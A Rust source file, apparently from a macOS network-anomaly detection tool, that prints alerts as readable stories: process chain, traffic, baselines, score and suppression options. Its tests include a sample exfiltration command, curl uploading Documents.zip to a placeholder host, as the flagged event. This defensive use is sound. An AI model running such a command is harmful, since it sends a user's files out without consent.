//! `tidemark explain`: an alert as a story.

use std::io::{self, Write};
use std::path::PathBuf;

use anstyle::{AnsiColor, Style};
use serde_json::Value;

use super::inputs::Setup;
use super::{Failure, alerts, plot};
use crate::alert::{Activity, Alert, Closed, ProcessSection, bytes_in_words};
use crate::detect::{BaselineState, Channel, ChannelScore, Condition, Severity};
use crate::exceptions::Action;
use crate::process::Method;

/// Tells what an alert says: who ran what, what was usual, what was seen, why it is scored so, and what would silence it.
///
/// ALERT is a file with one or more alerts, `-` for standard input, or the id of an event or a finding. Every form is read, on any machine:
/// native, OCSF, ECS, slim, and wrapped as a SIEM's search returns it.
///
/// Examples:
///   tidemark replay recording.ndjson | tidemark explain -
///   tidemark explain hit-from-the-siem.json
///   tidemark explain tmk1:6a5f56425cdc5d41f29875d41cb916bc --alerts /var/log/tidemark/alerts.ndjson
#[derive(Debug, clap::Args)]
#[command(verbatim_doc_comment)]
pub(super) struct Args {
    /// File, `-`, or id.
    alert: String,
    /// The file of alerts in which an id is looked up; the first file sink of the configuration where none is named.
    #[arg(long, value_name = "FILE")]
    alerts: Option<PathBuf>,
    #[command(flatten)]
    setup: Setup,
}

pub(super) fn run(args: &Args) -> Result<(), Failure> {
    let config = args.setup.config()?;
    let stored = args.alerts.as_deref().or(config.delivery.file());
    let found = alerts::find(&args.alert, stored)?;
    let mut out = anstream::stdout().lock();
    for (at, alert) in found.iter().enumerate() {
        if at > 0 {
            writeln!(out, "\n{}\n", "─".repeat(72))?;
        }
        tell(alert, &mut out)?;
    }
    out.flush()?;
    Ok(())
}

const BOLD: Style = Style::new().bold();
const DIM: Style = Style::new().dimmed();

/// Writes the story of an alert.
fn tell(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    let colour = severity_style(alert.severity);
    writeln!(out, "{colour}{}{colour:#}  {BOLD}{}{BOLD:#}", alert.severity, printable(&alert.summary))?;
    writeln!(out, "{DIM}{}  event {}  {}{DIM:#}", alert.time, printable(&alert.id), alert.finding.as_str())?;
    let host = &alert.host;
    let version = host.os_version.as_deref().map(|v| format!(", macOS {v}")).unwrap_or_default();
    let serial = host.serial_number.as_deref().map(|s| format!(", serial {s}")).unwrap_or_default();
    writeln!(out, "{DIM}on {}{DIM:#}", printable(&format!("{}{version}{serial}", host.name)))?;
    if let Some(line) = stage(alert) {
        writeln!(out, "{line}")?;
    }
    heading(out, "Who")?;
    tree(alert, out)?;
    heading(out, "What")?;
    what(alert, out)?;
    heading(out, "What was usual, and what was seen")?;
    for channel in &alert.channels {
        usual(channel, out)?;
    }
    heading(out, "Why this score")?;
    why(alert, out)?;
    heading(out, "What would silence it")?;
    silence(alert, out)?;
    heading(out, "Next")?;
    writeln!(out, "  {}", printable(&alert.runbook))
}

fn heading(out: &mut impl Write, text: &str) -> io::Result<()> {
    writeln!(out, "\n{BOLD}{text}{BOLD:#}")
}

fn severity_style(severity: Severity) -> Style {
    let colour = match severity {
        Severity::Info => AnsiColor::Cyan,
        Severity::Low => AnsiColor::Blue,
        Severity::Medium => AnsiColor::Yellow,
        Severity::High => AnsiColor::Red,
        Severity::Critical => AnsiColor::Magenta,
    };
    Style::new().bold().fg_color(Some(colour.into()))
}

fn stage(alert: &Alert) -> Option<String> {
    let stage = &alert.stage;
    let what = match (stage.activity, stage.closed) {
        (Activity::Create, _) => {
            return alert.exception.as_ref().map(|exception| {
                let what = match exception.action {
                    Action::Suppress => "suppressed",
                    Action::Lower => "lowered",
                };
                format!(
                    "{what} by the exception {} of {}",
                    printable(&exception.id),
                    printable(&exception.owner)
                )
            });
        }
        (Activity::Update, _) => "goes on",
        (Activity::Close, Some(Closed::Learned)) => "closed: it was learnt as normal",
        (Activity::Close, Some(Closed::Excepted)) => "closed: an exception covers it",
        (Activity::Close, _) => "closed: it was not seen again",
    };
    Some(format!("{what}; found {} times since {}", stage.count, stage.first_time))
}

/// The chain from the oldest ancestor down to the process.
fn tree(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    let chain = alert.ancestors.iter().rev().chain([&alert.process]);
    let mut previous = None;
    let mut depth: usize = 0;
    for process in chain {
        let again = previous == Some(process.pid);
        if previous.is_some() && !again {
            depth = depth.saturating_add(1);
        }
        let indent = "   ".repeat(depth);
        let branch = if previous.is_none() {
            ""
        } else if again {
            "↳  "
        } else {
            "└─ "
        };
        let mark = if is(process, &alert.process) {
            " ◀ this"
        } else if alert.initiator.as_ref().is_some_and(|initiator| is(process, initiator)) {
            " ◀ initiator"
        } else {
            ""
        };
        writeln!(out, "  {indent}{branch}{BOLD}{}{BOLD:#} {}{mark}", printable(&process.name), process.pid)?;
        let below = if again || previous.is_none() { "   " } else { "      " };
        writeln!(out, "  {indent}{below}{DIM}{}{DIM:#}", printable(&described(process)))?;
        previous = Some(process.pid);
    }
    let user = &alert.user;
    let name = user.name.as_deref().map(printable).unwrap_or_default();
    let uid = user.uid.map(|uid| format!("uid {uid}")).unwrap_or_default();
    let tty = user.tty.as_deref().map(|tty| format!(", terminal {}", printable(tty))).unwrap_or_default();
    writeln!(
        out,
        "  by {}{tty}",
        [name, uid].into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join(", ")
    )?;
    if let Some(app) = &alert.application {
        writeln!(out, "  responsible app, as macOS says (a hint): {}", printable(&app.name))?;
    }
    Ok(())
}

fn is(a: &ProcessSection, b: &ProcessSection) -> bool {
    (a.pid, a.pidversion, &a.path) == (b.pid, b.pidversion, &b.path)
}

/// Command line, else path; script; signature.
fn described(process: &ProcessSection) -> String {
    let command =
        if process.arguments.is_empty() { process.path.to_string() } else { process.arguments.join(" ") };
    let script =
        process.script.as_ref().map(|script| format!("  [script {}]", script.name)).unwrap_or_default();
    let signing = &process.signing;
    let signed = match (&signing.team_id, signing.platform_binary) {
        (_, true) => "Apple".to_owned(),
        (Some(team), _) => format!("team {team}"),
        (None, _) => "no team".to_owned(),
    };
    format!("{command}{script}  ({signed})")
}

fn what(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    let flow = &alert.flow;
    let protocol = flow.protocol.map_or("not known", crate::network::Protocol::label);
    let name = flow.metadata.server_name.as_ref().or(flow.resolved_name.as_ref());
    let name = name.map(|name| format!("{} ", printable(name))).unwrap_or_default();
    writeln!(
        out,
        "  {protocol} over {} to {name}{}: {} out, {} in",
        flow.transport,
        flow.remote,
        bytes_in_words(flow.counters.bytes_out),
        bytes_in_words(flow.counters.bytes_in),
    )?;
    if flow.port_protocol != flow.protocol
        && let Some(port) = flow.port_protocol
    {
        writeln!(out, "  the port would suggest {port}")?;
    }
    let metadata = &flow.metadata;
    for (label, text) in [
        ("JA4", &metadata.ja4),
        ("user agent", &metadata.user_agent),
        ("SSH banner", &metadata.ssh_banner),
        ("DNS question", &metadata.dns_query),
        ("through a proxy to", &metadata.proxied_to),
    ] {
        if let Some(text) = text {
            writeln!(out, "  {label}: {}", printable(text))?;
        }
    }
    let surely = match alert.attribution {
        Method::Exact => "by its number and generation: sure",
        Method::Effective => "through the broker that acted for it: sure",
        Method::Pid => "by its number when the flow began: nearly sure",
        Method::Snapshot => "from the list made when observation began: its initiator is not known surely",
        Method::None => "not at all",
    };
    writeln!(out, "  the process was found {surely}")?;
    if !alert.top_destinations.is_empty() {
        writeln!(out, "  where this subject sends, as far back as tidemark remembers:")?;
        let most = alert.top_destinations.iter().map(|d| d.bytes_out).max().unwrap_or(1).max(1);
        for destination in &alert.top_destinations {
            let bar = plot::bar(destination.bytes_out as f64 / most as f64);
            writeln!(
                out,
                "    {:<30} {:>9}  {DIM}{bar}{DIM:#}",
                printable(&destination.name),
                bytes_in_words(destination.bytes_out)
            )?;
        }
    }
    Ok(())
}

fn usual(channel: &ChannelScore, out: &mut impl Write) -> io::Result<()> {
    let counts = if channel.counted { "" } else { "  (adds nothing to the score)" };
    writeln!(
        out,
        "  {BOLD}{}{BOLD:#}  once in 10^{:.1} days for this subject{counts}",
        channel.name.label(),
        channel.z
    )?;
    match channel.name {
        Channel::Volume | Channel::Destination | Channel::Received => {
            for window in ["hour", "day"] {
                let key = format!("{window}_bytes");
                let point =
                    |name| channel.expected.pointer(&format!("/{key}/{name}")).and_then(Value::as_u64);
                let seen = channel.observed.get(&key).and_then(Value::as_u64);
                if let (Some(seen), Some(median), Some(p99)) = (seen, point("median"), point("p99")) {
                    writeln!(out, "    {window:<4} {}", plot::amounts(median, p99, seen))?;
                    writeln!(out, "         {DIM}{}{DIM:#}", plot::amounts_in_words(median, p99, seen))?;
                }
            }
        }
        Channel::Protocol => {
            writeln!(out, "    seen:  {}", printable(&text(&channel.observed)))?;
            let known = channel
                .expected
                .get("known")
                .and_then(Value::as_array)
                .map(Vec::as_slice)
                .unwrap_or_default();
            if known.is_empty() {
                writeln!(out, "    usual: nothing yet")?;
            }
            let days = |spoken: &Value| spoken.get("days").and_then(Value::as_u64).unwrap_or(0);
            let most = known.iter().map(days).max().unwrap_or(1).max(1);
            for spoken in known {
                let name = spoken.get("protocol").map(text).unwrap_or_default();
                let bar = plot::bar(days(spoken) as f64 / most as f64);
                writeln!(
                    out,
                    "    usual: {:<22} {:>4} days  {DIM}{bar}{DIM:#}",
                    printable(&name),
                    days(spoken)
                )?;
            }
        }
        Channel::Initiator => {
            writeln!(out, "    seen:  run by {}", printable(&text(&channel.observed)))?;
            writeln!(
                out,
                "    usual: {}",
                printable(&channel.expected.get("pairs").map(text).unwrap_or_default())
            )?;
        }
        Channel::FanOut => {
            writeln!(out, "    seen:  {}", printable(&text(&channel.observed)))?;
        }
    }
    Ok(())
}

fn why(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    writeln!(
        out,
        "  score {:.2}: {} on this Mac; alerts begin at {:.2} (trim in force {:+.2}, {} subjects active)",
        alert.score,
        alert.return_period.words,
        alert.context.threshold,
        alert.context.trim,
        alert.context.active_subjects,
    )?;
    let baseline = &alert.baseline;
    let state = match baseline.state {
        BaselineState::Learning => "still learning",
        BaselineState::Active => "in force",
        BaselineState::Settling => "settling",
    };
    writeln!(
        out,
        "  its baseline is {:.1} days old, {state}: traffic in {} hours of {} days, {} destinations",
        baseline.age_days, baseline.active_hours, baseline.active_days, baseline.destinations,
    )?;
    writeln!(out, "  risk beside rarity: {} of 100 ({})", alert.risk.points, factors(alert))?;
    let context = &alert.context;
    for (time, words) in [
        (context.woke, "the Mac had just woken"),
        (context.system_updated, "the system was updated lately"),
        (context.image_changed, "the program's code changed lately"),
    ] {
        if let Some(time) = time {
            writeln!(out, "  {words}: {time}")?;
        }
    }
    if context.tunnel {
        writeln!(out, "  it left through a tunnel's interface")?;
    }
    if context.held_back > 0 {
        writeln!(out, "  {} findings of this subject were held back before", context.held_back)?;
        for held in &context.held {
            writeln!(
                out,
                "    {}  {:.2}  {}",
                held.time,
                held.score,
                printable(held.command.as_deref().unwrap_or_default())
            )?;
        }
    }
    let coverage = &alert.coverage;
    if coverage.gaps_last_hour > 0 {
        let (gaps, lost) = (coverage.gaps_last_hour, coverage.lost_last_hour);
        writeln!(out, "  not everything was seen: {gaps} gaps with {lost} observations in the last hour")?;
    }
    Ok(())
}

fn factors(alert: &Alert) -> String {
    let names: Vec<String> = alert
        .risk
        .factors
        .iter()
        .map(|factor| {
            serde_json::to_value(factor).map(|name| text(&name).replace('_', " ")).unwrap_or_default()
        })
        .collect();
    if names.is_empty() { "nothing makes it worse".to_owned() } else { names.join(", ") }
}

fn silence(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    for line in &alert.unless {
        match line.condition {
            Condition::BytesAtMost { bytes, share } => writeln!(
                out,
                "  it would not have alerted with at most {} in the day on the {} channel ({:.0} % of what was seen)",
                bytes_in_words(bytes),
                line.channel.label(),
                share * 100.0,
            )?,
            Condition::SeenBefore => {
                writeln!(
                    out,
                    "  it would not have alerted had the {} been seen before",
                    line.channel.label()
                )?;
            }
        }
    }
    if alert.unless.is_empty() {
        writeln!(out, "  no single difference would have kept it quiet")?;
    }
    writeln!(
        out,
        "  to accept it for good, as narrowly as it can be told: tidemark exceptions suggest {}",
        printable(&alert.id)
    )
}

fn text(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// Foreign text fit for a terminal: what would move the cursor, change colours or turn the writing's direction is shown as a mark.
fn printable(text: &str) -> String {
    text.chars().map(|c| if c.is_control() || is_bidirectional(c) { '\u{FFFD}' } else { c }).collect()
}

/// Marks that turn the direction of writing (Unicode Standard Annex 9, table 1), with which a name can be made to look like another.
fn is_bidirectional(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::alert::{Format, samples};

    fn story(alert: &Alert) -> String {
        let mut out = Vec::new();
        tell(alert, &mut out).unwrap();
        anstream::adapter::strip_str(&String::from_utf8(out).unwrap()).to_string()
    }

    #[test]
    fn the_story_says_who_what_usual_seen_why_and_what_next() {
        let told = story(&samples::plain());
        for part in [
            "curl -T Documents.zip https://files.example.net/in/",
            "◀ initiator",
            "◀ this",
            "by alice, uid 501",
            "tls over tcp to files.example.net 198.51.100.23:443: 23.4 MB out, 5.12 kB in",
            "23.4 MB seen; median 3.21 kB, 99 % stay below 120 kB, 195 times the 99 % point",
            "run by apple:com.apple.Automator",
            "score 2.59",
            "had the initiator been seen before",
            "exceptions suggest",
            "docs/runbooks/volume.md",
        ] {
            assert!(told.contains(part), "{part}\n{told}");
        }
    }

    #[test]
    fn every_form_tells_the_same_story() {
        let alert = samples::plain();
        let told = story(&alert);
        for format in [Format::Native, Format::Ocsf, Format::Ecs] {
            assert_eq!(story(&Alert::read(&alert.render(format)).unwrap()), told);
        }
    }

    proptest! {
        #[test]
        fn no_alert_can_steer_the_terminal(alert in samples::any_alert()) {
            let mut out = Vec::new();
            tell(&alert, &mut out).unwrap();
            let plain = anstream::adapter::strip_str(&String::from_utf8(out).unwrap()).to_string();
            prop_assert!(plain.chars().all(|c| c == '\n' || !(c.is_control() || is_bidirectional(c))));
            let _ = story(&Alert::read(&alert.render_slim(Format::Ocsf)).unwrap());
        }
    }
}
